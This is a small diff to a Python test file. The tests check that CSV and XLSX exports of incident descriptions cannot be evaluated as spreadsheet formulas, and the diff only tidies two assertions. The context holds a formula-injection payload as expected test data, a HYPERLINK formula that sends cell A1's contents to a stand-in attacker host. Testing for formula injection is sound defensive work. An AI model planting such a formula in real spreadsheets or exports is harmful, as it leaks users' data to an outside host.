@@ -58,7 +58,7 @@ def test_csv_cells_that_a_spreadsheet_would_evaluate_are_quoted(vault, risky, tm
     for row in rows:
         for cell in row:
             stripped = cell.lstrip(" \u00a0")
-            assert not stripped[:1] in ("=", "+", "-", "@", "\t", "\r", "\x00", "＝"), cell
+            assert stripped[:1] not in ("=", "+", "-", "@", "\t", "\r", "\x00", "＝"), cell
     descriptions = {r[rows[0].index("Description")] for r in rows[1:]}
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")" in descriptions
     assert "''=already quoted" in descriptions
@@ -89,7 +89,7 @@ def test_xlsx_text_cells_are_strings_never_formulas(vault, risky, tmp_path):
     for incident in vault.incidents.list():
         cell = described[incident.description]  # the text itself, no apostrophe added
         assert cell.data_type == "s"
-        assert cell.quotePrefix or not incident.description.lstrip(" '")[:1] in "=+-@＝"
+        assert cell.quotePrefix or incident.description.lstrip(" '")[:1] not in "=+-@＝"
     dates = [row[header.index("Fecha")].value for row in sheet.iter_rows(min_row=2)]
     assert all(isinstance(d, dt.datetime) for d in dates)
 
